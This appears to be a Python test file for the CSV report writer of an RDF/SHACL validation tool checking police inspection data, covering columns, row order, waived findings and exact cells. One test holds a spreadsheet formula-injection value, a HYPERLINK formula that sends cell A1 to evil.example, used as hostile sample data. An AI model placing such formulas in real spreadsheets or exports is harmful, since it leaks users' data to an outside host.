"""CSV: read back by a reader of CSV, one row for each finding, exact."""

from __future__ import annotations

import csv
import io

from hypothesis import given

from builder.checking.findings import CheckResult, Finding, Severity
from builder.namespaces import PEELID, PEELSH
from builder.query import formats
from builder.reporting import rows
from builder.reporting.rows import COLUMNS, formula_cells, render
from tests.reporting.sample import HOSTILE, LEICESTERSHIRE, broken, clean, sample
from tests.reporting.strategies import BROKEN, CHECKS

SH = "http://www.w3.org/ns/shacl#"


def read(result: CheckResult) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(render(result), newline=""), strict=True))


def of_number(result: CheckResult, number: int) -> dict[str, str]:
    (row,) = (row for row in read(result) if row["fingerprint"] == f"{number:032x}")
    return row


def test_columns() -> None:
    assert render(clean()) == (
        "severity,rule,title,file,line,column,focus,label,path,value,found,expected,remedy,message,fingerprint,status,"
        "reason,until,shape,constraint,component\r\n"
    )


def test_a_finding() -> None:
    assert of_number(sample(), 1) == {
        "severity": "violation",
        "rule": "Judgment-grade",
        "title": "grade",
        "file": LEICESTERSHIRE,
        "line": "63",
        "column": "71",
        "focus": PEELID + "judgment/peel-2017/leicestershire/efficiency",
        "label": "Leicestershire Police, PEEL 2017, efficiency",
        "path": "peel:grade",
        "value": PEELID + "force/leicestershire",
        "found": "a link to Leicestershire Police (force/leicestershire), which is of the class `peel:Force` (police "
        "force)",
        "expected": "a link to a thing of the class `peel:Grade` (grade)",
        "remedy": "Link to a `peel:Grade`, or say that Leicestershire Police is one.",
        "message": "A judgment has a grade of a scheme.",
        "fingerprint": "00000000000000000000000000000001",
        "status": "new",
        "reason": "",
        "until": "",
        "shape": PEELSH + "Judgment-grade",
        "constraint": "",
        "component": SH + "ClassConstraintComponent",
    }


def test_complete_and_in_order() -> None:
    severities = [row["severity"] for row in read(sample())]
    assert severities == ["violation"] * 15 + ["warning"] * 2 + ["info"] * 3 + ["violation"]


def test_known_findings_stand_last_with_their_reason() -> None:
    *new, known = read(sample())
    assert {row["status"] for row in new} == {"new"}
    assert {name: known[name] for name in ("rule", "status", "reason", "until")} == {
        "rule": "Force-label",
        "status": "waived",
        "reason": "The force asks for its Welsh name.",
        "until": "2027-06-30",
    }


def test_places_that_are_not_known_are_empty() -> None:
    assert [of_number(sample(), 7)[name] for name in ("file", "line", "column")] == ["", "", ""]
    assert [of_number(sample(), 8)[name] for name in ("file", "line", "column")] == ["data/notes.trig", "", ""]


def test_problems_of_sources() -> None:
    (syntax,) = (row for row in read(broken()) if row["rule"] == "syntax")
    assert syntax["title"] == "Syntax of RDF"
    assert syntax["found"] == "the prefix `foaff:` is not declared"
    assert syntax["focus"] == syntax["component"] == ""


def test_hostile_cells_are_exact() -> None:
    row = of_number(sample(), 6)
    assert row["label"] == HOSTILE
    assert row["value"] == f'=HYPERLINK("https://evil.example/?"&A1,"p")\n{HOSTILE}'


def test_cells_like_formulas_are_counted() -> None:
    """One value begins with an equals sign; -12 is a number and ``<…>`` no formula."""
    assert formula_cells(sample()) == 1
    assert formula_cells(clean()) == 0
    signs = ("=1+1", "@SUM(A1)", "+1-2", "-x", "\tx", "-1.5", "1=1")
    result = CheckResult(tuple(Finding("r", Severity.INFO, "m", label=sign) for sign in signs))
    assert formula_cells(result) == 5


def test_the_same_counts_as_a_formula_as_in_answers() -> None:
    assert rows._FORMULA == formats._FORMULA  # one decision, written down in two places


@given(CHECKS | BROKEN)
def test_any_result(result: CheckResult) -> None:
    text = render(result)
    table = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert table[0] == list(COLUMNS)
    assert {len(row) for row in table} == {len(COLUMNS)}
    assert len(table) == 1 + len(result.findings) + len(result.waived)
    findings = [*result.findings, *(finding for finding, _ in sorted(result.waived, key=lambda pair: pair[0].order))]
    assert [row[7] for row in table[1:]] == [finding.label for finding in findings]
    assert [row[13] for row in table[1:]] == [finding.message for finding in findings]
    assert text.endswith("\r\n")
